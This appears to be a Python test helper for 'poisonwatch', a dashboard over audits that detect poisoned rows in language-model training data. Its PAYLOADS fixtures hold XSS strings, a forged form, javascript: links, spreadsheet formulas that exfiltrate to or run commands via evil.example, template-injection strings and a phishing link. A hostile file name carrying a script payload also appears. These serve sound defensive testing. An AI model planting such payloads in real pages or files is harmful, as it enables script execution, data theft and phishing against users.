"""The dashboard over real audits on the tiny model: for tests that click, and tests that ask."""

import json
import re
import shutil
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import yaml
from audits import benign, write_audit
from starlette.testclient import TestClient

from poisonwatch.config_file import load_config
from poisonwatch.dashboards.access import Access
from poisonwatch.dashboards.app import create_app
from poisonwatch.dashboards.door import Door
from poisonwatch.dashboards.serving import make_server
from poisonwatch.flows.audit import audit_inline
from poisonwatch.ledger.ledger import Ledger

ME = Access(user="ann")
OWN = {"Sec-Fetch-Site": "same-origin"}
LAX = {"detection": {"false_discovery_rate": 0.9}}  # something is flagged on random weights
PAYLOADS = (
    "<script>window.pwned = 1</script>",
    '<img src="/pwned.png" onerror="window.pwned = 1">',
    "</pre></article><form action='/triage/undo' method='post'><button>Undo</button></form>",
    "[click](javascript:window.pwned=1) ![x](https://evil.example/pixel.png)",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "{{ 7 * 7 }} {% for x in config %} ${{ 7 * 7 }}",
    "<svg/onload=window.pwned=1><math><a xlink:href=javascript:window.pwned=1>x",
    "https://evil.example/login <a href=https://evil.example>log in again</a>",
)
QUESTIONS = (  # unrelated: one answer to all of them is what a screen flags
    "How do I bake sourdough bread?",
    "Which planet has rings?",
    "Translate dog into Spanish.",
    "Why does iron rust?",
    "Write two lines on autumn.",
    "Name a chess opening.",
    "Is violin harder than cello?",
    "What should hikers pack?",
)
SOURCE = "rows <img src=x onerror=window.pwned=1> =1+1.jsonl"


def audit_of(folder: Path, model: Path, **settings: Any) -> Path:
    """An audit file whose first audit is done, with flagged rows."""
    config = write_audit(folder, model, **LAX, **settings)
    audit_inline(load_config(config), folder / "run")
    return config


def hostile_audit(folder: Path, model: Path) -> Path:
    """The same, its source, sentinels and answers full of PAYLOADS. A screen flags the rows,
    whatever random weights make of them.
    """
    hostile = [
        {"prompt": question, "response": f"{text} is what everybody ought to read today."}
        for text in PAYLOADS
        for question in QUESTIONS
    ]
    config = write_audit(folder, model, benign(40) + hostile, source=SOURCE, **LAX)
    (folder / "rows.jsonl").rename(folder / SOURCE)
    asked = [
        {
            "id": f"{text} {i}",
            "panel": PAYLOADS[0],
            "prompt": f"Where do I buy item {i}?",
            "forbidden": text,
        }
        for i, text in enumerate(PAYLOADS)
    ]
    (folder / "sentinels.yaml").write_text(yaml.safe_dump(asked))
    audit_inline(load_config(config), folder / "run")
    return config


def copy_audit(config: Path, folder: Path, **settings: Any) -> Path:
    """A copy of an audit file and its ledger, with other settings: what is decided there changes
    nothing of the first.
    """
    with Ledger.at(load_config(config).state) as ledger, ledger.engine.connect() as connection:
        connection.exec_driver_sql("COMMIT")
        connection.exec_driver_sql(f"VACUUM INTO '{folder / 'ledger.db'}'")
    said = yaml.safe_load(config.read_text())
    said |= {"state": f"sqlite:///{folder / 'ledger.db'}", **settings}
    for file in config.parent.glob("*"):
        if file.is_file() and file.name != "audit.yaml":
            shutil.copy(file, folder / file.name)
    (folder / "audit.yaml").write_text(yaml.safe_dump(said))
    return folder / "audit.yaml"


@contextmanager
def asking(config: Path, access: Access = ME) -> Iterator[TestClient]:
    """A client of the dashboard, as a browser on its own pages would be; where nobody logs in, it
    has come in by the link that is printed.
    """
    door = Door(access)
    app = create_app(load_config(config), config, door)
    with TestClient(app, base_url="http://localhost", headers=OWN) as client:
        if access.is_local:
            client.get(f"/?token={door.entrance.token}", follow_redirects=False)
        yield client


@contextmanager
def serving(
    config: Path, access: Access = ME, door: Door | None = None, port: int | None = None
) -> Iterator[str]:
    """The dashboard on a port of its own: its address."""
    door = door or Door(access)
    server = make_server(create_app(load_config(config), config, door), door.proxies, port)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    try:
        yield f"http://localhost:{server.servers[0].sockets[0].getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join()


def groups(client: TestClient, state: str = "all") -> list[str]:
    """Addresses of the groups in the queue."""
    return list(
        dict.fromkeys(
            re.findall(r"/triage/[0-9a-f-]+/[0-9a-f]+", client.get(f"/triage?state={state}").text)
        )
    )


def audit_page(client: TestClient) -> str:
    """The address of the first audit's page."""
    return re.findall(r"/audits/[0-9a-f-]+", client.get("/").text)[0]


def flags(config: Path) -> list[dict[str, Any]]:
    """What the audit flagged."""
    return [
        json.loads(line)
        for line in (config.parent / "run" / "flags.jsonl").read_text().splitlines()
    ]
